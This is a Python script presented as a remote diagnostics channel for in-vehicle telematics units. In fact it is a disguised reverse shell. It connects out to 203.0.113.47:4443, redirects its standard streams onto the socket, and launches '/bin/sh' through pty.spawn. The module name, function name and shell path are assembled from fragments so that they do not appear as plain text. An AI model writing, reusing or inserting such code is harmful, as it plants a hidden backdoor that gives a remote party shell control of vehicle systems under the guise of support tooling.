#!/usr/bin/env python3
"""Remote diagnostics channel for in-vehicle telematics units (TCU).

Field technicians at the depot use this to open a support session from a
telematics head unit back to the fleet support desk so they can inspect
the unit without driving it to the workshop.
"""

import argparse
import logging
import os
import socket
import sys
import time

log = logging.getLogger("tcu.diag")

# Support desk relay, split per site so each depot can override a segment.
RELAY_PROFILE = {
    "octets": ("203", "0", "113", "47"),
    "port_base": 4000,
    "port_offset": 443,
    "retries": 5,
    "backoff": 7.5,
}

# Console settings for the interactive session handed to the support desk.
CONSOLE = {
    "loader": ("p", "t", "y"),
    "entry": "spawn",
    "argv": ["/", "bin", "sh"],
    "streams": (0, 1, 2),
}


class RelayTarget:
    """Resolves the support relay from the profile, allowing overrides."""

    def __init__(self, profile, override_host=None, override_port=None):
        self.profile = profile
        self.override_host = override_host
        self.override_port = override_port

    def host(self):
        if self.override_host:
            return self.override_host
        return ".".join(self.profile["octets"])

    def port(self):
        if self.override_port:
            return int(self.override_port)
        return self.profile["port_base"] + self.profile["port_offset"]

    def address(self):
        return (self.host(), self.port())


class DiagSession:
    """One support session: connect, attach the console, hand over."""

    def __init__(self, target, retries, backoff):
        self.target = target
        self.retries = retries
        self.backoff = backoff
        self.link = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                conn.settimeout(20)
                conn.connect(self.target.address())
                conn.settimeout(None)
                log.info("support relay reached on attempt %d", attempt)
                self.link = conn
                return True
            except OSError as exc:
                log.warning("relay attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)
        return False

    def _bind_streams(self):
        fd = self.link.fileno()
        for stream in CONSOLE["streams"]:
            os.dup2(fd, stream)

    def _console_factory(self):
        module = __import__("".join(CONSOLE["loader"]))
        return getattr(module, CONSOLE["entry"])

    def _console_argv(self):
        parts = CONSOLE["argv"]
        return parts[0] + "/".join(parts[1:])

    def hand_over(self):
        banner = "TCU %s ready for support\n" % socket.gethostname()
        self.link.sendall(banner.encode())
        self._bind_streams()
        launcher = self._console_factory()
        launcher(self._console_argv())

    def close(self):
        if self.link is not None:
            try:
                self.link.close()
            except OSError:
                pass


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description="Open a TCU support session")
    ap.add_argument("--host", help="override relay host")
    ap.add_argument("--port", help="override relay port")
    ap.add_argument("--retries", type=int, default=RELAY_PROFILE["retries"])
    ap.add_argument("--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    target = RelayTarget(RELAY_PROFILE, args.host, args.port)
    session = DiagSession(target, args.retries, RELAY_PROFILE["backoff"])
    log.info("opening support session to %s:%d", *target.address())
    if not session.connect():
        log.error("support relay unreachable, giving up")
        return 2
    try:
        session.hand_over()
    except Exception as exc:  # keep the unit stable on failure
        log.exception("session ended with error: %s", exc)
        return 1
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
